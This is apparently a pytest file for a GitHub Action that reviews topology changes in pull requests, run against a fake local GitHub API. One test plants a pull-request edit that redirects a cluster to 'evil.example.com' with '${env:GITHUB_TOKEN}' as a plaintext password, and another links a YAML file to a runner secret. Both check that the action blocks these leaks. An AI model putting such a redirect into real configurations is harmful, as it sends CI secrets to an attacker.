"""The pull-request review end to end, as `action.yml` runs it, without GitHub: a recorded
pull_request event, a throwaway git repository with a base and a head commit, and a fake
GitHub API on 127.0.0.1 that keeps comments in memory and records every request."""

import io
import json
import os
import shutil
import subprocess
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from syrupy.assertion import SnapshotAssertion

from topology.review.__main__ import main
from topology.review.comment import MARKER
from topology.review.findings import PlanOutcome

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = ROOT / "examples"
EVENT = ROOT / "tests" / "review" / "pull_request.json"
TOKEN = "ghs_test-token-never-printed"
REPOSITORY = "acme/replication"
PULL = 42

# Fixed identities and dates make the throwaway repository's commits the same on every run.
GIT_ENV = {
    "GIT_AUTHOR_NAME": "Test",
    "GIT_AUTHOR_EMAIL": "test@example.invalid",
    "GIT_COMMITTER_NAME": "Test",
    "GIT_COMMITTER_EMAIL": "test@example.invalid",
    "GIT_AUTHOR_DATE": "2026-01-01T00:00:00Z",
    "GIT_COMMITTER_DATE": "2026-01-01T00:00:00Z",
    "GIT_CONFIG_NOSYSTEM": "1",
    "HOME": "/nonexistent",
}


@dataclass
class FakeGitHub:
    """The three endpoints the review uses, over one pull request's comments."""

    comments: list[dict[str, Any]] = field(default_factory=list)
    requests: list[tuple[str, str]] = field(default_factory=list)
    authorizations: set[str] = field(default_factory=set)
    next_id: int = 1001

    def handle(self, method: str, url: str, payload: Any) -> tuple[int, Any]:
        path = urlsplit(url).path
        self.requests.append((method, path))
        listing = f"/repos/{REPOSITORY}/issues/{PULL}/comments"
        if method == "GET" and path == listing:
            query = parse_qs(urlsplit(url).query)
            size, page = int(query["per_page"][0]), int(query["page"][0])
            return 200, self.comments[(page - 1) * size : page * size]
        if method == "POST" and path == listing:
            created = {"id": self.next_id, "body": payload["body"], "user": {"login": "bot"}}
            self.next_id += 1
            self.comments.append(created)
            return 201, created
        prefix = f"/repos/{REPOSITORY}/issues/comments/"
        if method == "PATCH" and path.startswith(prefix):
            for existing in self.comments:
                if existing["id"] == int(path.removeprefix(prefix)):
                    existing["body"] = payload["body"]
                    return 200, existing
        return 404, {"message": "Not Found"}

    def ours(self) -> list[dict[str, Any]]:
        return [c for c in self.comments if c["body"].startswith(MARKER)]


@pytest.fixture
def github() -> Iterator[tuple[FakeGitHub, str]]:
    fake = FakeGitHub(comments=[{"id": 7, "body": "Looks good to me", "user": {"login": "h"}}])

    class Handler(BaseHTTPRequestHandler):
        def _serve(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            payload = json.loads(self.rfile.read(length)) if length else None
            fake.authorizations.add(self.headers.get("Authorization", ""))
            status, answer = fake.handle(self.command, self.path, payload)
            data = json.dumps(answer).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_GET = do_POST = do_PATCH = _serve

        def log_message(self, format: str, *args: Any) -> None:  # keep pytest's output clean
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield fake, f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def git(repository: Path, *args: str) -> str:
    return subprocess.run(
        ["git", *args],
        cwd=repository,
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, **GIT_ENV},
    ).stdout.strip()


def commit_all(repository: Path, message: str) -> str:
    git(repository, "add", "--all")
    git(repository, "commit", "--quiet", "--message", message)
    return git(repository, "rev-parse", "HEAD")


@pytest.fixture
def repository(tmp_path: Path) -> tuple[Path, str]:
    """main: the quickstart, the aggregation example and a workflow file. The pull request
    widens the quickstart's mirror, adds the active-active example, deletes aggregation and
    edits the workflow (which is no topology, so the review leaves it out)."""
    repo = tmp_path / "repo"
    (repo / "examples").mkdir(parents=True)
    (repo / ".github" / "workflows").mkdir(parents=True)
    git(repo, "init", "--quiet", "--initial-branch", "main")
    shutil.copy(EXAMPLES / "quickstart.yaml", repo / "examples" / "quickstart.yaml")
    shutil.copy(EXAMPLES / "aggregation.yaml", repo / "examples" / "aggregation.yaml")
    workflow = repo / ".github" / "workflows" / "ci.yml"
    workflow.write_text("on: pull_request\njobs: {}\n")
    base = commit_all(repo, "base")
    git(repo, "checkout", "--quiet", "-b", "payments-to-west")
    quickstart = repo / "examples" / "quickstart.yaml"
    widened = quickstart.read_text().replace(
        'include: ["orders"]', 'include: ["orders", "payments"]'
    )
    assert widened != quickstart.read_text(), "examples/quickstart.yaml no longer has this filter"
    quickstart.write_text(widened)
    shutil.copy(EXAMPLES / "active-active.yaml", repo / "examples" / "active-active.yaml")
    (repo / "examples" / "aggregation.yaml").unlink()
    workflow.write_text("on: [pull_request, push]\njobs: {}\n")
    commit_all(repo, "head")
    return repo, base


def environment(tmp_path: Path, base: str, api_url: str, **inputs: str) -> dict[str, str]:
    event = json.loads(EVENT.read_text())
    event["pull_request"]["base"]["sha"] = base
    event_path = tmp_path / "event.json"
    event_path.write_text(json.dumps(event))
    return {
        "GITHUB_EVENT_PATH": str(event_path),
        "GITHUB_REPOSITORY": REPOSITORY,
        "GITHUB_API_URL": api_url,
        "GITHUB_STEP_SUMMARY": str(tmp_path / "summary.md"),
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "INPUT_TOKEN": TOKEN,
        **{f"INPUT_{name.upper()}": value for name, value in inputs.items()},
    }


def run(env: dict[str, str], repo: Path, **options: Any) -> tuple[int, str]:
    log = io.StringIO()
    status = main(env, repo, log=log, **options)
    return status, log.getvalue()


def test_first_run_adds_the_comment_and_the_next_edits_it(
    tmp_path: Path,
    repository: tuple[Path, str],
    github: tuple[FakeGitHub, str],
    snapshot: SnapshotAssertion,
) -> None:
    repo, base = repository
    fake, api_url = github
    env = environment(tmp_path, base, api_url)

    status, log = run(env, repo)

    assert status == 0
    listing = f"/repos/{REPOSITORY}/issues/{PULL}/comments"
    assert fake.requests == [("GET", listing), ("POST", listing)]
    [ours] = fake.ours()
    assert ours["body"] == snapshot
    assert (tmp_path / "summary.md").read_text() == ours["body"] + "\n"
    assert (tmp_path / "output").read_text() == "valid=true\n"
    assert fake.authorizations == {f"Bearer {TOKEN}"}
    assert TOKEN not in log

    fake.requests.clear()
    status, log = run(env, repo)

    assert status == 0
    assert fake.requests == [
        ("GET", listing),
        ("PATCH", f"/repos/{REPOSITORY}/issues/comments/1001"),
    ]
    assert [c["id"] for c in fake.comments] == [7, 1001]  # the human's comment, and ours, once
    assert fake.ours()[0]["body"] == ours["body"]
    assert "Updated the review comment 1001." in log


def test_an_invalid_topology_fails_the_check_and_is_still_commented(
    tmp_path: Path,
    repository: tuple[Path, str],
    github: tuple[FakeGitHub, str],
    snapshot: SnapshotAssertion,
) -> None:
    repo, base = repository
    fake, api_url = github
    broken = (EXAMPLES / "quickstart.yaml").read_text().replace("to: west", "to: wset")
    (repo / "examples" / "quickstart.yaml").write_text(broken)
    commit_all(repo, "a typo")

    status, log = run(environment(tmp_path, base, api_url), repo)

    assert status == 1
    [ours] = fake.ours()
    assert ours["body"] == snapshot
    assert "::error file=examples/quickstart.yaml,line=" in log
    assert (tmp_path / "output").read_text() == "valid=false\n"


def test_the_comment_is_found_past_the_first_page(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    repo, base = repository
    fake, api_url = github
    fake.comments += [{"id": n, "body": f"comment {n}", "user": {"login": "h"}} for n in range(120)]
    fake.comments.insert(
        110, {"id": 555, "body": f"{MARKER}\nold review", "user": {"login": "bot"}}
    )

    status, _ = run(environment(tmp_path, base, api_url), repo)

    assert status == 0
    listing = f"/repos/{REPOSITORY}/issues/{PULL}/comments"
    assert fake.requests == [
        ("GET", listing),
        ("GET", listing),
        ("PATCH", f"/repos/{REPOSITORY}/issues/comments/555"),
    ]
    assert len(fake.ours()) == 1 and "old review" not in fake.ours()[0]["body"]


def test_with_plan_each_valid_topology_is_planned_and_a_failed_plan_fails(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    repo, base = repository
    fake, api_url = github
    planned: list[tuple[str, Path]] = []

    def fake_plan(path: str, where: Path) -> PlanOutcome:
        planned.append((path, where))
        if path == "examples/active-active.yaml":
            return PlanOutcome(error="error: east (127.0.0.1:24980): cannot connect")
        return PlanOutcome(markdown="### topo plan: 1 to create, 0 to update, 0 to delete.\n")

    env = environment(tmp_path, base, api_url, plan="true", allow_connection_changes="true")
    status, _ = run(env, repo, run_plan=fake_plan)

    assert status == 1
    assert sorted(planned) == [
        ("examples/active-active.yaml", repo),
        ("examples/quickstart.yaml", repo),
    ]
    body = fake.ours()[0]["body"]
    assert "### topo plan: 1 to create, 0 to update, 0 to delete." in body
    assert "### topo plan: failed" in body
    assert "error: east (127.0.0.1:24980): cannot connect" in body
    assert "did not run" not in body


def test_explicit_patterns_review_matching_files_only(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    repo, base = repository
    fake, api_url = github

    status, _ = run(environment(tmp_path, base, api_url, files="examples/quick*.yaml"), repo)

    assert status == 0
    body = fake.ours()[0]["body"]
    assert "`examples/quickstart.yaml` (modified)" in body
    assert "active-active" not in body and "aggregation" not in body


def test_a_symlink_out_of_the_repository_is_never_quoted(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    """A pull request may add `x.yaml -> /a/runner/file`; with explicit patterns it counts as a
    topology, but nothing of the file it points at reaches the comment."""
    repo, base = repository
    fake, api_url = github
    secret = tmp_path / "runner-secret.txt"
    secret.write_text("runner-only: hunter2-not-for-prs\n")
    (repo / "examples" / "leak.yaml").symlink_to(secret)
    commit_all(repo, "link")

    run(environment(tmp_path, base, api_url, files="examples/*.yaml"), repo)

    body = fake.ours()[0]["body"]
    assert "`examples/leak.yaml`" in body
    assert "hunter2" not in body and "runner-only" not in body


def test_no_topology_changes_add_no_comment(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    repo, base = repository
    fake, api_url = github

    status, log = run(environment(tmp_path, base, api_url, files="docs/*.yaml"), repo)

    assert status == 0
    assert [method for method, _ in fake.requests] == ["GET"]
    assert fake.ours() == []
    assert "This pull request changes no topology file." in log


def test_a_token_that_may_not_comment_is_a_warning_not_a_failure(
    tmp_path: Path, repository: tuple[Path, str]
) -> None:
    repo, base = repository
    env = environment(tmp_path, base, "http://127.0.0.1:9")  # nothing listens on the discard port

    status, log = run(env, repo)

    assert status == 0
    assert "::warning title=topo review::could not comment: GitHub API: GET" in log
    assert TOKEN not in log


def test_an_event_that_is_no_pull_request_is_one_clear_error(tmp_path: Path) -> None:
    event = tmp_path / "push.json"
    event.write_text(json.dumps({"ref": "refs/heads/main"}))

    status, log = run({"GITHUB_EVENT_PATH": str(event)}, tmp_path)

    assert status == 1
    assert log == (
        "::error title=topo review::the event is not a pull request: "
        "run this action on `pull_request` events\n"
    )


def _planned_paths(
    tmp_path: Path, repo: Path, base: str, api_url: str, **inputs: str
) -> tuple[int, list[str]]:
    planned: list[str] = []

    def fake_plan(path: str, where: Path) -> PlanOutcome:
        planned.append(path)
        return PlanOutcome(markdown="### topo plan: 1 to create, 0 to update, 0 to delete.\n")

    env = environment(tmp_path, base, api_url, plan="true", **inputs)
    status, _ = run(env, repo, run_plan=fake_plan)
    return status, planned


def test_a_pull_request_that_redirects_a_cluster_is_not_planned_and_the_comment_says_why(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    """The pull request points east at a host it controls, over SASL_PLAINTEXT, with any of the
    job's variables as the password: planning it would send that value there in clear."""
    repo, base = repository
    fake, api_url = github
    quickstart = repo / "examples" / "quickstart.yaml"
    text = quickstart.read_text()
    redirected = text.replace(
        'east: {bootstrap: "127.0.0.1:24980"}',
        'east: {bootstrap: "evil.example.com:9092", security: {protocol: SASL_PLAINTEXT, '
        'sasl: {mechanism: PLAIN, username: x, password: "${env:GITHUB_TOKEN}"}}}',
        1,
    )
    assert redirected != text, "examples/quickstart.yaml no longer has this bootstrap"
    quickstart.write_text(redirected)
    commit_all(repo, "redirect east")

    status, planned = _planned_paths(tmp_path, repo, base, api_url)

    assert planned == []  # neither the redirect nor the added file (all its clusters are new)
    assert status == 0  # nothing failed: nothing was asked of the clusters
    body = fake.ours()[0]["body"]
    assert (
        "**topo plan**: not run: this pull request changes how topo connects to east "
        "(bootstrap, security)."
    ) in body
    assert "allow-connection-changes" in body
    assert "**topo plan**: not run: this pull request changes how topo connects to east (new)" in (
        body
    )  # the added active-active example

    status, planned = _planned_paths(tmp_path, repo, base, api_url, allow_connection_changes="true")
    assert sorted(planned) == ["examples/active-active.yaml", "examples/quickstart.yaml"]


def test_a_pull_request_that_keeps_every_connection_is_planned(
    tmp_path: Path, repository: tuple[Path, str], github: tuple[FakeGitHub, str]
) -> None:
    repo, base = repository
    fake, api_url = github

    status, planned = _planned_paths(
        tmp_path, repo, base, api_url, files="examples/quickstart.yaml"
    )

    assert (status, planned) == (0, ["examples/quickstart.yaml"])
    assert "### topo plan: 1 to create" in fake.ours()[0]["body"]


def test_the_plan_reads_secret_files_only_under_the_repository_and_named_folders(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from topology.review import __main__ as review

    seen: dict[str, str] = {}

    def fake_run(args: list[str], **options: Any) -> subprocess.CompletedProcess[str]:
        seen.update(options["env"])
        return subprocess.CompletedProcess(args, 0, "plan", "")

    monkeypatch.setattr(subprocess, "run", fake_run)
    outcome = review.plan_with_cli("t.yaml", tmp_path, [tmp_path / "certs", Path("/etc/kafka")])
    assert outcome.ok
    assert seen[review.SECRET_FILE_ROOTS].split(os.pathsep) == [
        str(tmp_path),
        str(tmp_path / "certs"),
        "/etc/kafka",
    ]
